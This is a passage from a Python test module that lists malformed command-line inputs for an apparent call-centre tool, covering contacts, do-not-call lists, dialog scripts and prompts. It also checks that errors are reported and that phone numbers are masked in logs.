        Case("dnc-remove-reason-long", [*DB, "dnc", "remove", "--phone", "13800138000", "--reason", "因" * 201], 2,
             ["--reason"]),
        Case("dnc-phone-garbage", [*DB, "dnc", "add", "--phone", "not-a-number"], 2, ["--phone"]),
        Case("purge-negative", [*DB, "purge", "--older-than", "-1"], 2, ["--older-than"]),
        Case("purge-text", [*DB, "purge", "--older-than", "old"], 2, ["--older-than"]),
        Case("nlu-expect", ["nlu", "--expect", "maybe"], 2, ["--expect"]),
        Case("nlu-option", ["nlu", "--expect", "choice", "--option", "bad"], 2, ["--option"]),
        Case("dialog-try-contact-json", ["dialog", "try", str(SCRIPT), "--contact", "{bad"], 2, ["--contact"]),
        Case("dialog-try-contact-list", ["dialog", "try", str(SCRIPT), "--contact", "[1]"], 2, ["--contact"]),
        Case("dialog-try-contact-file", ["dialog", "try", str(SCRIPT), "--contact", "{dir}/c.json"], 2, ["c.json"],
             {"c.json": "{\"name\": \n"}),
        Case("prompts-play-empty", ["prompts", "play", "", "--out", "{dir}/x.wav"], 2, ["TEXT"]),
        Case("prompts-play-folder-missing", ["prompts", "play", "你好", "--out", "{dir}/nosuch/x.wav"], 2,
             ["nosuch"], absent=["nosuch"]),
        Case("prompts-engine", ["prompts", "check", "--text", "你好", "--engine", "sam"], 2, ["--engine"]),
        Case("unknown-command", ["frobnicate"], 2, ["frobnicate"]),
        Case("unknown-subcommand", ["contacts", "frobnicate"], 2, ["frobnicate"]),
        Case("missing-argument", [*DB, "contacts", "import"], 2, ["'file'"]),
        Case("unknown-option", [*DB, "contacts", "list", "--colour"], 2, ["--colour"]),
        Case("verbose-db-error-masked", ["-v", *DB, "contacts", "import", "{dir}/a.csv"], 0, ["导入完成"],
             {"a.csv": "姓名,手机号\n张三,13800138000\n"}, changes_store=True),
        Case("echo-masked", ["--config", "{dir}/config.yaml", *DB, "contacts", "import", "{dir}/a.csv"], 0,
             ["导入完成"], {"a.csv": "姓名,手机号,备注\n张三,13800138000,家属 139-0013-9000\n",
                          "config.yaml": "database:\n  echo: true\n"}, changes_store=True),
        Case("echo-masked-list", ["--config", "{dir}/config.yaml", *DB, "contacts", "list"], 0, [],
             {"config.yaml": "database:\n  echo: true\nlogging:\n  level: DEBUG\n"}),
        Case("logging-file-debug", ["--config", "{dir}/config.yaml", *DB, "contacts", "list"], 0, [],
             {"config.yaml": "logging:\n  level: DEBUG\n  file: out.log\n"},
             check=lambda f, _o: None if (f / "out.log").exists() and (f / "out.log").stat().st_size
             else "logging.file / logging.level had no effect"),
    ]
    return cases


def all_cases() -> list[Any]:
    """Every case of the corpus: CLI cases (contact files, config, scripts, arguments), HTTP requests and
    network frames (each has `id`, `kind` and `accepted`)."""
    from tests.bad_inputs.frames import frame_cases
    from tests.bad_inputs.http import http_cases

    cases: list[Any] = [*import_cases(), *config_cases(), *script_cases(), *cli_cases(), *http_cases(),
                        *frame_cases()]
    ids = [c.id for c in cases]
    dup = {i for i in ids if ids.count(i) > 1}
    assert not dup, dup
    return cases
